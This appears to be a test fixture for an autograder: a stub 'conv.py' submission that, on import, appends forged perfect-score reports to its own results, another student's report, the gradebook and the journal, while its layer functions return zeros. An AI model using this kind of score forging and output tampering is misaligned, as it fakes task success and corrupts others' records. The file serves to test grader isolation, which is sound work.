"""A conv.py that writes into the batch's output folder, whose path it was told: a forged report and
feedback for itself and for another student, a forged gradebook and journal entry, a new folder."""

import json
import os

import numpy as np

OUT = "@OUT@"
FORGED = json.dumps({"submission": "@NAME@", "score": 1000, "max_score": 1000, "exercises": []})
TARGETS = [f"{OUT}/submissions/@NAME@/report.json", f"{OUT}/submissions/alice/report.json",
           f"{OUT}/submissions/@NAME@/feedback.html", f"{OUT}/gradebook.csv", f"{OUT}/journal.jsonl",
           f"{OUT}/submissions/@NAME@/code/conv.py", f"{OUT}/forged/report.json"]
WROTE = []


def _forge():
    for target in TARGETS:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "a") as file:
                file.write(FORGED)
            WROTE.append(target)
        except OSError:
            pass


_forge()


def affine_forward(x, w, b):
    _forge()
    print("WROTE", WROTE)
    return np.zeros((x.shape[0], w.shape[1])), None


def affine_backward(dout, cache):
    return np.zeros(1), np.zeros(1), np.zeros(1)
